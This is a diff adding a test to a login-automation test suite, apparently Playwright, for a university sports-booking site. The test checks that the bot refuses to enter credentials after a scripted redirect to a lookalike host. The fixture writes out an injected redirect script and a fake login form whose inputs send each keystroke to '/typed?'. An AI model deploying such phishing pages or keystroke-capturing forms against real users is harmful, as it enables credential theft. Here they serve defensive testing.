@@ -52,6 +52,41 @@ describe('logging in', () => {
     expect((await sportrick.ledger()).logins).toEqual([])
   })
 
+  test.each(['http', 'https'])(
+    'types nothing into a page of another host that looks the same, over %s',
+    async (scheme) => {
+      const sportrick = await simulate()
+      const typed: string[] = []
+      const lookalike = `${scheme}://aunicalogin-polimi.example`
+      const site = siteOf(sportrick, {
+        launchBrowser: async () => {
+          const browser = await launch(BROWSER)
+          const newContext = browser.newContext.bind(browser)
+          browser.newContext = async (options) => {
+            const context = await newContext(options)
+            await context.route(/\/Account\/Login/, (route) =>
+              route.fulfill({
+                contentType: 'text/html',
+                body: `<script>location.href='${lookalike}/login'</script>`,
+              }),
+            )
+            await context.route(`${lookalike}/**`, (route) => {
+              typed.push(route.request().url() + (route.request().postData() ?? ''))
+              return route.fulfill({
+                contentType: 'text/html',
+                body: `<form method="post"><input id="login" oninput="fetch('/typed?'+this.value)"><input id="password" type="password" oninput="fetch('/typed?'+this.value)"><button>Accedi</button></form>`,
+              })
+            })
+            return context
+          }
+          return browser
+        },
+      })
+      expect(reasonOf(await site.login(sportrick.demo))).toBe('login-elsewhere')
+      expect(typed.filter((url) => !url.endsWith('/login'))).toEqual([])
+    },
+  )
+
   test('tries wrong credentials once only', async () => {
     const sportrick = await simulate()
     const result = await siteOf(sportrick).login({ ...sportrick.demo, password: 'not-this-one' })
